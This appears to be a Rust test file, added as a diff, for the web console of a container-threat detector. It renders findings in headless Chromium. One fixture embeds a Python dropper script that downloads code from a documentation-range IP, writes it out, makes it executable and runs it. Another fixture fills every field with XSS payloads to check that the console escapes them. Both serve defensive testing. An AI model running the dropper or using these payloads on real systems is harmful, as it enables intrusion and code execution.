@@ -1,0 +1,379 @@
+//! The console in headless Debian chromium: findings replayed from the example traces, a real
+//! server on 127.0.0.1, real SQLite. Screenshots go to target/screenshots/.
+
+#[path = "common/browser.rs"]
+mod browser;
+mod common;
+
+use browser::{browser_available, Browser};
+use common::*;
+use serde_json::{json, Value};
+use std::sync::Arc;
+use ward_api::ApiConfig;
+use ward_event::Finding;
+use ward_store::{FindingStore, SqliteStore};
+
+/// A Malicious Python finding with a script (the example traces need a trained model for
+/// one); built like the detector builds them, with the record's real field names.
+fn python_finding() -> Finding {
+    serde_json::from_value(json!({
+        "name": "projects/local/sources/ward/locations/global/findings/9a7c0e5b2d1f4e3a8b6c5d4e3f2a1b0c",
+        "canonicalName": "projects/local/sources/ward/locations/global/findings/9a7c0e5b2d1f4e3a8b6c5d4e3f2a1b0c",
+        "parent": "projects/local/sources/ward/locations/global",
+        "resourceName": "//ward/nodes/node-a/namespaces/shop/pods/web-7d9c5b-x2k4q/containers/web",
+        "state": "ACTIVE",
+        "category": "Execution: Malicious Python executed",
+        "findingClass": "THREAT",
+        "severity": "CRITICAL",
+        "eventTime": "2026-11-21T10:00:00.030000000Z",
+        "createTime": "2026-11-21T10:00:00.030000000Z",
+        "description": "A machine-learning model scored the Python code executed in this container as malicious.",
+        "nextSteps": "1. Read the script contents below and decide whether it is expected. 2. Isolate the pod. 3. Find how the script got there and rotate reachable credentials.",
+        "mute": "UNDEFINED",
+        "mitreAttack": {"primaryTactic": "EXECUTION", "primaryTechniques": ["PYTHON", "COMMAND_AND_SCRIPTING_INTERPRETER"], "additionalTechniques": ["INGRESS_TOOL_TRANSFER"], "version": "18"},
+        "processes": [
+            {"name": "python3", "binary": {"path": "/usr/bin/python3.11", "size": 6831736, "sha256": "b1946ac92492d2347c6235b4d2611184b1946ac92492d2347c6235b4d2611184"},
+             "script": {"path": "/tmp/.cache/update.py", "sha256": "4f0e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100",
+                        "contents": "import base64, os, socket, subprocess\nimport urllib.request\n\nURL = \"http://203.0.113.9:8000/stage2\"\n\ndef fetch():\n    data = urllib.request.urlopen(URL, timeout=5).read()\n    path = \"/tmp/.cache/k\"\n    with open(path, \"wb\") as f:\n        f.write(base64.b64decode(data))\n    os.chmod(path, 0o755)\n    subprocess.Popen([path, \"--daemon\"])\n\nif __name__ == \"__main__\":\n    fetch()\n"},
+             "args": ["python3", "/tmp/.cache/update.py"], "pid": 214, "parentPid": 213},
+            {"name": "sh", "binary": {"path": "/bin/dash"}, "args": ["sh", "-c", "python3 /tmp/.cache/update.py"], "pid": 213, "parentPid": 100},
+            {"name": "nginx", "binary": {"path": "/usr/sbin/nginx"}, "args": ["nginx", "-g", "daemon off;"], "pid": 100, "parentPid": 1}
+        ],
+        "containers": [{"name": "web", "uri": "registry.example/shop/web:1.4.2", "imageId": "sha256:a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1", "labels": [{"name": "app", "value": "web"}]}],
+        "kubernetes": {"pods": [{"ns": "shop", "name": "web-7d9c5b-x2k4q", "labels": [{"name": "app", "value": "web"}]}], "nodes": [{"name": "node-a"}]},
+        "sourceProperties": {
+            "Container_Id": "3f9a1c2b4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8",
+            "Container_Image_Uri": "registry.example/shop/web:1.4.2",
+            "Container_Name": "web", "Pod_Name": "web-7d9c5b-x2k4q", "Pod_Namespace": "shop",
+            "VM_Instance_Name": "node-a", "Count": 1,
+            "Model_Score": 0.97,
+            "Model_Top_Reasons": ["downloads code over HTTP (urllib.request.urlopen)", "decodes base64 into a file", "makes the file executable and runs it"],
+            "Mitre_Technique_Ids": ["T1059.006", "T1059", "T1105"],
+            "VirusTotal_Links": ["https://www.virustotal.com/gui/file/4f0e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100"]
+        }
+    }))
+    .unwrap()
+}
+
+const SCRIPT_TAG: &str = "<script>document.title='pwned';window.__xss=1;</script>";
+const IMG_TAG: &str = "\"><img src=x onerror=\"document.title='pwned';window.__xss=2\">";
+
+/// A finding whose attacker-controlled strings are HTML/JS payloads.
+fn hostile_finding() -> Finding {
+    let both = format!("{SCRIPT_TAG}{IMG_TAG}");
+    serde_json::from_value(json!({
+        "name": "projects/local/sources/ward/locations/global/findings/eeee0000eeee0000eeee0000eeee0000",
+        "canonicalName": "projects/local/sources/ward/locations/global/findings/eeee0000eeee0000eeee0000eeee0000",
+        "parent": "projects/local/sources/ward/locations/global",
+        "resourceName": format!("//ward/containers/{IMG_TAG}"),
+        "state": "ACTIVE",
+        "category": "Execution: Malicious Python executed",
+        "findingClass": "THREAT",
+        "severity": "HIGH",
+        "eventTime": "2026-11-22T08:00:00Z",
+        "createTime": "2026-11-22T08:00:00Z",
+        "description": format!("description {both}"),
+        "nextSteps": format!("1. {SCRIPT_TAG} 2. {IMG_TAG}"),
+        "mute": "UNDEFINED",
+        "externalUri": "javascript:document.title='pwned'",
+        "mitreAttack": {"primaryTactic": "EXECUTION", "primaryTechniques": ["PYTHON"], "version": "18"},
+        "processes": [
+            {"name": IMG_TAG, "binary": {"path": format!("/tmp/{IMG_TAG}")},
+             "script": {"path": format!("/tmp/{SCRIPT_TAG}.py"), "contents": format!("print(1)\n{SCRIPT_TAG}\n{IMG_TAG}\n<svg onload=\"window.__xss=3\">")},
+             "args": ["python3", SCRIPT_TAG, IMG_TAG, "<iframe src=javascript:window.__xss=4>"], "pid": 7, "parentPid": 6},
+            {"name": SCRIPT_TAG, "args": [IMG_TAG], "pid": 6}
+        ],
+        "containers": [{"name": IMG_TAG, "uri": SCRIPT_TAG, "labels": [{"name": IMG_TAG, "value": SCRIPT_TAG}]}],
+        "kubernetes": {"pods": [{"ns": SCRIPT_TAG, "name": IMG_TAG}], "nodes": [{"name": IMG_TAG}]},
+        "sourceProperties": {
+            "Container_Name": IMG_TAG, "Count": 1,
+            "Model_Top_Reasons": [SCRIPT_TAG, IMG_TAG],
+            "Intel_Comment": IMG_TAG, "Intel_Feed": SCRIPT_TAG,
+            "Mitre_Technique_Ids": ["T1059\"><img src=x onerror=window.__xss=5>", "T1059.006"],
+            "VirusTotal_Links": ["javascript:window.__xss=6", format!("https://www.virustotal.com/gui/file/{IMG_TAG}")]
+        }
+    }))
+    .unwrap()
+}
+
+async fn assert_nothing_ran(b: &Browser, title: &str) {
+    let v = b
+        .js("return {title: document.title, xss: (typeof window.__xss), \
+             imgs: document.querySelectorAll('img').length, \
+             iframes: document.querySelectorAll('iframe').length, \
+             svgs: document.querySelectorAll('svg').length, \
+             scripts: Array.from(document.scripts).map(s => s.src), \
+             jsLinks: Array.from(document.querySelectorAll('a')).filter(a => !/^(https?:|#)/.test(a.getAttribute('href') || '#')).length}")
+        .await;
+    assert_eq!(v["xss"], json!("undefined"), "{v}");
+    assert!(v["title"].as_str().unwrap().starts_with(title), "{v}");
+    assert!(!v["title"].as_str().unwrap().contains("pwned"), "{v}");
+    assert_eq!(v["imgs"], json!(0), "{v}");
+    assert_eq!(v["iframes"], json!(0), "{v}");
+    assert_eq!(v["svgs"], json!(0), "{v}");
+    assert_eq!(v["jsLinks"], json!(0), "{v}");
+    let scripts = v["scripts"].as_array().unwrap();
+    assert_eq!(scripts.len(), 1, "{v}");
+    assert!(scripts[0].as_str().unwrap().ends_with("/assets/app.js"));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn console_walkthrough_in_chromium() {
+    if !browser_available() {
+        return;
+    }
+    let (_d, store, findings) = example_store();
+    store.upsert(&python_finding()).unwrap();
+    let total = findings.len() + 1;
+    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
+    let b = Browser::start().await;
+
+    // The printed console URL carries the write token in the fragment; the console keeps it
+    // in sessionStorage and removes it from the address bar.
+    b.goto(&srv.console_url).await;
+    b.wait_ready("list").await;
+    let url = b.client.current_url().await.unwrap();
+    assert!(!url.as_str().contains("token"), "{url}");
+    let kept = b.js("return sessionStorage.getItem('ward.token')").await;
+    assert_eq!(kept.as_str(), srv.ephemeral_token.as_deref());
+    assert_eq!(b.text("#total-size").await, total.to_string());
+    assert_eq!(b.count("#findings-table tbody tr").await, total.min(50));
+    let shot = b.screenshot("01-findings-list").await;
+    eprintln!("screenshot {}", shot.display());
+
+    // Filter with the grammar.
+    b.reset_ready().await;
+    let input = b
+        .client
+        .find(fantoccini::Locator::Css("#filter-input"))
+        .await
+        .unwrap();
+    input
+        .send_keys("severity=CRITICAL containerName:web")
+        .await
+        .unwrap();
+    b.click("#filter-apply").await;
+    b.wait_ready("list").await;
+    let want = store.count("severity=CRITICAL containerName:web").unwrap();
+    assert!(want > 0);
+    assert_eq!(b.text("#total-size").await, want.to_string());
+    let sevs = b
+        .js("return Array.from(document.querySelectorAll('#findings-table .c-sev')).slice(1).map(e => e.innerText.trim())")
+        .await;
+    assert!(
+        sevs.as_array().unwrap().iter().all(|s| s == "CRITICAL"),
+        "{sevs}"
+    );
+    b.screenshot("02-findings-filtered").await;
+
+    // A quick filter on top (state), then a malformed filter shows the position.
+    b.reset_ready().await;
+    b.click("button[data-qf='state=ACTIVE']").await;
+    b.wait_ready("list").await;
+    let meta = b.text("#list-meta").await;
+    assert!(meta.contains("state=ACTIVE"), "{meta}");
+    b.reset_ready().await;
+    b.goto(&format!("{}/#/?q=severity%3D", srv.base)).await;
+    b.wait_ready("list-error").await;
+    let err = b.text("#filter-error").await;
+    assert!(err.contains("column 10"), "{err}");
+    assert!(err.contains('^'), "{err}");
+    b.screenshot("03-filter-error").await;
+
+    // Open the Malicious Python finding from the list.
+    b.reset_ready().await;
+    b.goto(&format!(
+        "{}/#/?category=MALICIOUS_PYTHON_EXECUTED",
+        srv.base
+    ))
+    .await;
+    b.wait_ready("list").await;
+    assert_eq!(b.count("#findings-table tbody tr").await, 1);
+    b.reset_ready().await;
+    b.click("#findings-table tbody tr .cat-link").await;
+    b.wait_ready("finding-summary").await;
+    let py = python_finding();
+    assert_eq!(b.text("#finding-title").await, py.category);
+    let script = b
+        .js("return document.getElementById('script-contents').textContent")
+        .await;
+    assert_eq!(
+        script.as_str(),
+        py.processes[0].script.as_ref().unwrap().contents.as_deref()
+    );
+    assert_eq!(b.count("#process-tree li").await, 3);
+    assert!(b.text("#process-tree li.trigger").await.contains("python3"));
+    let mitre = b
+        .js("return Array.from(document.querySelectorAll('#mitre-links a')).map(a => a.href)")
+        .await;
+    assert!(
+        mitre
+            .as_array()
+            .unwrap()
+            .contains(&json!("https://attack.mitre.org/techniques/T1059/006/")),
+        "{mitre}"
+    );
+    let vt = b
+        .js("return Array.from(document.querySelectorAll('#vt-links a')).map(a => a.href)")
+        .await;
+    assert!(vt.as_array().unwrap().contains(&json!(
+        "https://www.virustotal.com/gui/file/4f0e1d2c3b4a59687766554433221100ffeeddccbbaa99887766554433221100"
+    )));
+    let resource = b.text("#card-resource").await;
+    for s in [
+        "node-a",
+        "shop",
+        "web-7d9c5b-x2k4q",
+        "registry.example/shop/web:1.4.2",
+    ] {
+        assert!(resource.contains(s), "{resource}");
+    }
+    assert!(b.count("#next-steps li").await >= 3);
+    assert!(b.count("#related-timeline li").await >= 2);
+    b.screenshot("04-finding-summary").await;
+
+    // JSON tab: the exact record.
+    b.reset_ready().await;
+    b.click("#tab-button-json").await;
+    b.wait_ready("finding-json").await;
+    let shown = b
+        .js("return document.getElementById('finding-json').textContent")
+        .await;
+    let parsed: Value = serde_json::from_str(shown.as_str().unwrap()).unwrap();
+    assert_eq!(
+        parsed,
+        serde_json::to_value(store.get(py.id()).unwrap().unwrap()).unwrap()
+    );
+    b.click("#copy-json").await;
+    b.screenshot("05-finding-json").await;
+
+    // Back to Summary and follow a related finding on the timeline.
+    b.reset_ready().await;
+    b.click("#tab-button-summary").await;
+    b.wait_ready("finding-summary").await;
+    let target = b
+        .js("return document.querySelector('#related-timeline .related-link').closest('li').getAttribute('data-id')")
+        .await;
+    let target = target.as_str().unwrap().to_string();
+    b.reset_ready().await;
+    b.click("#related-timeline .related-link").await;
+    b.wait_ready("finding-summary").await;
+    let url = b.client.current_url().await.unwrap();
+    assert!(
+        url.as_str().ends_with(&format!("#/findings/{target}")),
+        "{url}"
+    );
+    let tf = store.get(&target).unwrap().unwrap();
+    assert_eq!(b.text("#finding-title").await, tf.category);
+    b.screenshot("06-related-finding").await;
+
+    // Mark it inactive, then mute it (the write token came from the URL fragment).
+    b.click("#btn-state").await;
+    wait_for(&b, "document.querySelector('#action-msg.ok') !== null").await;
+    assert_eq!(
+        store.get(&target).unwrap().unwrap().state.as_str(),
+        "INACTIVE"
+    );
+    assert_eq!(b.text("#btn-state").await, "Mark active");
+    b.click("#btn-mute").await;
+    wait_for(
+        &b,
+        "document.getElementById('btn-mute').innerText === 'Unmute'",
+    )
+    .await;
+    assert_eq!(store.get(&target).unwrap().unwrap().mute.as_str(), "MUTED");
+    b.screenshot("07-finding-inactive-muted").await;
+
+    // Without a token, the buttons explain what is needed and change nothing.
+    b.js("sessionStorage.removeItem('ward.token')").await;
+    b.click("#btn-state").await;
+    wait_for(
+        &b,
+        "document.getElementById('action-msg').innerText.includes('write token')",
+    )
+    .await;
+    assert_eq!(
+        store.get(&target).unwrap().unwrap().state.as_str(),
+        "INACTIVE"
+    );
+
+    b.close().await;
+    srv.stop().await;
+}
+
+async fn wait_for(b: &Browser, cond: &str) {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    loop {
+        if b.js(&format!("return !!({cond})")).await == json!(true) {
+            return;
+        }
+        assert!(std::time::Instant::now() < deadline, "timed out: {cond}");
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_strings_render_as_inert_text() {
+    if !browser_available() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let store = Arc::new(SqliteStore::open(dir.path().join("w.db")).unwrap());
+    let f = hostile_finding();
+    store.upsert(&f).unwrap();
+    let srv = TestServer::start(ApiConfig::default(), store.clone()).await;
+    let b = Browser::start().await;
+
+    b.goto(&format!("{}/#/", srv.base)).await;
+    b.wait_ready("list").await;
+    assert_nothing_ran(&b, "Ward").await;
+    let row = b.text("#findings-table tbody tr").await;
+    assert!(row.contains(IMG_TAG), "shown literally: {row}");
+
+    b.reset_ready().await;
+    b.goto(&format!("{}/#/findings/{}", srv.base, f.id())).await;
+    b.wait_ready("finding-summary").await;
+    // Give any injected handler time to fire.
+    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    assert_nothing_ran(&b, "Ward").await;
+    let script = b
+        .js("return document.getElementById('script-contents').textContent")
+        .await;
+    assert_eq!(
+        script.as_str(),
+        f.processes[0].script.as_ref().unwrap().contents.as_deref()
+    );
+    let args = b
+        .js("return Array.from(document.querySelectorAll('#card-detected .args code')).map(c => c.textContent)")
+        .await;
+    assert_eq!(args, json!(f.processes[0].args));
+    let page = b.js("return document.body.innerText").await;
+    let page = page.as_str().unwrap();
+    for s in [SCRIPT_TAG, IMG_TAG] {
+        assert!(page.contains(s), "{s} not shown literally");
+    }
+    // No link was made from the javascript: URIs or the bad technique id.
+    let hrefs = b
+        .js("return Array.from(document.querySelectorAll('a')).map(a => a.getAttribute('href'))")
+        .await;
+    for h in hrefs.as_array().unwrap() {
+        let h = h.as_str().unwrap();
+        assert!(h.starts_with('#') || h.starts_with("https://"), "{h}");
+        assert!(!h.contains('<') && !h.contains('"'), "{h}");
+    }
+    b.screenshot("08-hostile-finding-summary").await;
+
+    b.reset_ready().await;
+    b.click("#tab-button-json").await;
+    b.wait_ready("finding-json").await;
+    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
+    assert_nothing_ran(&b, "Ward").await;
+    let shown = b
+        .js("return document.getElementById('finding-json').textContent")
+        .await;
+    let parsed: Value = serde_json::from_str(shown.as_str().unwrap()).unwrap();
+    assert_eq!(parsed, serde_json::to_value(&f).unwrap());
+
+    b.close().await;
+    srv.stop().await;
+}
